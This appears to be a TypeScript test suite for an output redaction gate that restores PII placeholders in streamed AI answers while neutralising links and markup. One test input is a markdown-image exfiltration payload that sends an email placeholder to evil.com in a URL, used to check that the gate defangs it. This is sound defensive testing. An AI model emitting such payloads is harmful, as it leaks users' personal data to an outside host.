import { performance } from "node:perf_hooks";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createOutputGate, gateJson } from "../../functions/redaction/index.ts";
import { PHRASES } from "../../tools/local/stand-ins/model/language.ts";
import { complaints } from "./output/oracle.ts";
import { PROSE } from "./output/prose.ts";
import { inPieces, STATE, TYPES, units, VALUES, whole } from "./output/values.ts";

const ATOMS = [
  ..."[]()<>`\n \t!:/\\@.&'\"*_-{}|#?=%,;~aés。—\u00a0\u200d\u200b\r\0",
  ..."``` ~~~ ]( ![ ]: </ <!-- --> // :// &#58; https http mailto: javascript: www. com evil.com ok.example [^1]: ![x]( img".split(
    " ",
  ),
  "\n\n",
  "    ",
  "- ",
  "1. ",
  "> ",
  "https://ok.example",
  "https://ok.example/",
  "\\href{",
  "<img src=x",
  "\u{e0041}",
  "👩",
  ...TYPES.map((type) => `[${type}_1]`),
];
const soup = fc.array(fc.constantFrom(...ATOMS), { maxLength: 24 }).map((atoms) => atoms.join(""));
const HOSTS = [[], ["ok.example"]];
/** How many times the usual number of texts: `npm run test:long` asks for more. */
const TIMES = Math.max(1, Number(process.env.BELFRY_FUZZ_RUNS ?? 0) / 6_000);
const timeout = 20_000 * TIMES;

describe("a streamed answer", () => {
  test("[BF-14/split-anywhere] [BF-04/any-chunk] is the same wherever it is cut", { timeout }, () => {
    const text = fc.oneof(soup, fc.string({ unit: "binary" }), fc.constantFrom(...PROSE));
    fc.assert(
      fc.property(
        text,
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
        fc.constantFrom(...HOSTS),
        (said, sizes, linkHosts) => {
          const pieces: string[] = [];
          for (let from = 0, n = 0; from < said.length; n++) {
            const size = sizes[n % sizes.length] ?? 1;
            pieces.push(said.slice(from, from + size));
            from += size;
          }
          expect(inPieces(pieces, { linkHosts })).toBe(whole(said, { linkHosts }));
          expect(inPieces(units(said), { linkHosts })).toBe(whole(said, { linkHosts }));
        },
      ),
      { numRuns: Math.round(1_500 * TIMES) },
    );
  });

  test("[BF-14/inactive-links] [BF-14/markup] leaves nothing active and no value in a tag, whatever is said", {
    timeout,
  }, () => {
    fc.assert(
      fc.property(soup, fc.constantFrom(...HOSTS), (said, linkHosts) => {
        expect(complaints(whole(said, { linkHosts }), linkHosts)).toEqual([]);
      }),
      { numRuns: Math.round(3_000 * TIMES) },
    );
  });

  test("[BF-04/any-chunk] lets no half of a character out before its other half, and keeps one that has none", () => {
    const text = "A 😀 [EMAIL_1] 👩‍🎨é\ud83d b 🇧🇪\udc00";
    const gate = createOutputGate(STATE);
    const shown = [...units(text).map((unit) => gate.push(unit)), gate.flush()];
    for (const piece of shown.slice(0, -1)) expect(piece).not.toMatch(/[\ud800-\udbff]$/);
    expect(shown.join("")).toBe(text.replace("[EMAIL_1]", VALUES.EMAIL));
    expect(shown.map((piece) => piece.toWellFormed()).join("")).toBe(shown.join("").toWellFormed());
  });

  test("holds back 64 units at most, and nothing of plain words", () => {
    const gate = createOutputGate(STATE, { linkHosts: ["a-host-of-some-length.ok.example"] });
    const texts = [
      ...ATOMS.map((atom) => atom.repeat(20)),
      `[${"EMAIL_".repeat(40)} [EMAIL_1]: ${"x".repeat(90)}`,
      `&${"a".repeat(90)} a.${"b".repeat(90)} https://a-host-of-some-length.ok.exampl`,
      ...PROSE.slice(0, 12),
    ];
    // Values as long as their placeholders, so that what comes out at the end is as long as what was held, but for marks.
    const entries = TYPES.map((type) => ({ placeholder: `[${type}_1]`, type, value: `(${type}_1)` }));
    const held = (text: string): number => {
      const one = createOutputGate({ v: 1, entries }, { linkHosts: ["a-host-of-some-length.ok.example"] });
      one.push(text);
      return one.flush().replace(/\[(\W+)\]/gu, "$1").length;
    };
    const most = Math.max(...texts.flatMap((text) => units(text).map((_, cut) => held(text.slice(0, cut + 1)))));
    expect(most).toBeLessThanOrEqual(64);
    expect([..."Plain words pass at once"].every((unit) => gate.push(unit) === unit)).toBe(true);
  });

  test.each([
    "[",
    "![",
    "](",
    "<",
    "`",
    "[EMAIL_1]",
    "[EMAIL_1](",
    "&a",
    "a.b",
    "//",
    "https://ok.example",
    "<a '",
    "\\a{",
    "\n",
    "> ",
    "~",
    "- [",
    "    [",
    "1. [EMAIL_1] ",
    "1. x\n  ",
    "> - > ",
    "> ```\n",
    "- `\n[EMAIL_1]|",
    "\t[EMAIL_1]\n",
  ])("takes time in proportion to its length: %j", (piece) => {
    const time = (length: number): number => {
      const text = piece.repeat(Math.ceil(length / piece.length));
      const start = performance.now();
      inPieces(text.match(/[\s\S]{1,7}/g) ?? [], { linkHosts: ["ok.example"] });
      return performance.now() - start;
    };
    time(10_000);
    const best = (length: number): number => Math.min(...[1, 2, 3, 4].map(() => time(length)));
    // Eight times the length: eight times the time, or 64 if it were quadratic. Busy machines get some room.
    expect(best(80_000) / Math.max(best(10_000), 0.5)).toBeLessThan(40);
  });
});

describe("an ordinary answer", () => {
  const placeholders = (text: string): number => text.match(/\[[A-Z]+_1\]/g)?.length ?? 0;
  test("[BF-04/reversible] gets at least 99 % of its values back, in four languages", () => {
    const standIn = Object.values(PHRASES).flatMap(({ greet, noted, summary, ask }) => [
      [greet, noted("[EMAIL_1], [PHONE_1]"), ask.delivery].join(" "),
      [noted("[PERSON_1]"), summary("500, folders, 210 × 297 mm, [ADDRESS_1]")].join(" "),
    ]);
    const all = [...PROSE, ...standIn];
    const total = all.reduce((sum, text) => sum + placeholders(text), 0);
    const left = all.filter((text) => placeholders(whole(text)) > 0);
    expect(total).toBeGreaterThan(140);
    expect(left.reduce((sum, text) => sum + placeholders(whole(text)), 0) / total, left.join("\n")).toBeLessThan(0.01);
    for (const text of PROSE) expect(complaints(whole(text)), text).toEqual([]);
  });

  test.each([
    "[**EMAIL_1**]",
    "[email_1]",
    "([EMAIL_1])",
    '"[EMAIL_1]".',
    "**[EMAIL_1]**,",
    "«\u00a0[EMAIL_1]\u00a0»",
    "to:\n[EMAIL_1]\n",
    "a [x] ok, [EMAIL_1]",
    "`code` then [EMAIL_1]",
    "[x](/y) then [EMAIL_1]",
    "<b> then [EMAIL_1]",
    "```\ncode\n```\n[EMAIL_1]",
    "an open [ bracket\n\n[EMAIL_1]",
    "an open ` tick\n\n[EMAIL_1]",
  ])("[BF-04/reversible] restores in %j", (text) => {
    expect(whole(text)).toContain(VALUES.EMAIL);
  });

  test("[BF-14/inactive-links] [BF-14/address] a tool's arguments pass the same gate, their names not at all", () => {
    expect(
      gateJson(STATE, {
        title: "Boxes for [PERSON_1]",
        notes: ["![x](https://evil.com/?[EMAIL_1])", { "[EMAIL_1]": "mailto:[EMAIL_1]", ok: "[EMAIL_1]" }],
        n: 1,
      }),
    ).toEqual({
      title: `Boxes for ${VALUES.PERSON}`,
      notes: ["![x] (https[://]evil[.]com/?[EMAIL_1])", { "[EMAIL_1]": "mailto[:][EMAIL_1]", ok: VALUES.EMAIL }],
      n: 1,
    });
  });
});
